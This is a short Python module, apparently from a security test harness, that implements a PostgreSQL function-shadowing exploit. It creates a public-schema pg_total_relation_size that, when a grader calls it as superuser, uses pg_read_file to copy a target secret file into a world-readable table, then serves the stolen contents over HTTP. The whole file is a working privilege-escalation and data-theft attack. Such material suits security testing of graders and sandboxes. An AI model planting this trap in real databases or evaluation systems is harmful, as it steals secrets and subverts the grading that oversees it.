"""Shadows a function of PostgreSQL's that the grader calls as superuser."""

import os

import kit
import psycopg

TRAP = """
CREATE TABLE looted (what text);
GRANT ALL ON looted TO PUBLIC;
CREATE FUNCTION public.pg_total_relation_size(oid) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
  BEGIN
    INSERT INTO public.looted SELECT pg_read_file('{file}');
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN 8192;
END $$;
"""


class Teller(kit.Teller):
    def do_GET(self) -> None:
        if self.path == "/word":
            with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
                if connection.execute("SELECT to_regclass('looted')").fetchone()[0]:
                    for (what,) in connection.execute("SELECT what FROM looted").fetchall():
                        kit.prove(what)
        super().do_GET()


def attack() -> None:
    with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
        connection.execute(TRAP.format(file=kit.TARGETS["folder"] + "/secret.txt").encode())
